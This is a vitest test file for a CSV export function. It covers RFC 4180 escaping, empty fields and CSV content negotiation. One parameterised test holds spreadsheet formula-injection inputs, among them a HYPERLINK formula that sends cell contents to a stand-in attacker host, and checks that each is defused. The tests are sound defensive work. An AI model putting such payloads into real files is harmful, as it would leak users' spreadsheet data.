import { expect, it } from 'vitest';
import type { GroupPoints } from '../model/points';
import { csvOfAnswer, requestsCsv } from './csv';

const toCsv = (...answer: Parameters<typeof csvOfAnswer>) => [...csvOfAnswer(...answer)].join('');

it('writes a header and a line a point, escaped as RFC 4180 says', () => {
  const series: GroupPoints[] = [
    { labels: { host: 'a,"b"\n' }, points: [[0, 1.5, 1e21]] },
    { labels: {}, points: [[1_000, -0.25, 3]] },
  ];
  expect(toCsv({ aggregate: 'avg,max', series }, ['host'])).toBe(
    'timestamp,time,host,avg,max\r\n' +
      '0,1970-01-01T00:00:00.000Z,"a,""b""\n",1.5,1e+21\r\n' +
      '1000,1970-01-01T00:00:01.000Z,,-0.25,3\r\n',
  );
});

it('leaves a field empty where a value cannot be computed', () => {
  const series: GroupPoints[] = [{ labels: {}, points: [[0, null, 2]] }];
  expect(toCsv({ aggregate: 'p99,avg', series }, [])).toBe(
    'timestamp,time,p99,avg\r\n0,1970-01-01T00:00:00.000Z,,2\r\n',
  );
});

it.each([
  ['=1+1', `"'=1+1"`],
  ['+cmd', `"'+cmd"`],
  ['-1+1', `"'-1+1"`],
  ['@SUM(A1)', `"'@SUM(A1)"`],
  ['\t=1', `"'\t=1"`],
  ['\rx', `"'\rx"`],
  ['\n=1', `"'\n'=1"`],
  [' =1', `"' =1"`],
  ['＝1', `"'＝1"`],
  ['"=1', `"""'=1"`],
  ['a"\r\n-x', `"a""\r\n'-x"`],
  ['a;=1', '"a;=1"'],
  ['a\t=1', '"a\t=1"'],
  ['=HYPERLINK("http://evil.example?"&A1,"x")', `"'=HYPERLINK(""http://evil.example?""&A1,""x"")"`],
  ['-5', '-5'],
  ['-1e-300', '-1e-300'],
  ['+49', '+49'],
  ['a-b=c@d+e', 'a-b=c@d+e'],
  ['', ''],
])('a label %j is the field %s, in a row and in the header', (value, field) => {
  const series: GroupPoints[] = [{ labels: { [value]: value }, points: [[0, -1]] }];
  expect(toCsv({ aggregate: 'avg', series }, [value])).toBe(
    `timestamp,time,${field},avg\r\n0,1970-01-01T00:00:00.000Z,${field},-1\r\n`,
  );
});

it('writes the header alone when there are no points', () => {
  expect(toCsv({ aggregate: 'avg', series: [] }, [])).toBe('timestamp,time,avg\r\n');
});

it.each([
  ['csv', null, true],
  ['json', 'text/csv', false],
  [null, 'text/csv', true],
  [null, 'text/csv;q=0.9, application/json;q=0.5', true],
  [null, 'application/json, text/csv;q=0.9', false],
  [null, 'application/json, text/csv', false],
  [null, 'text/html,*/*;q=0.8', false],
  [null, 'text/csv;q=0', false],
  [null, null, false],
])('format=%s, Accept: %s: CSV %s', (format, accept, expected) => {
  expect(requestsCsv(format, accept)).toBe(expected);
});
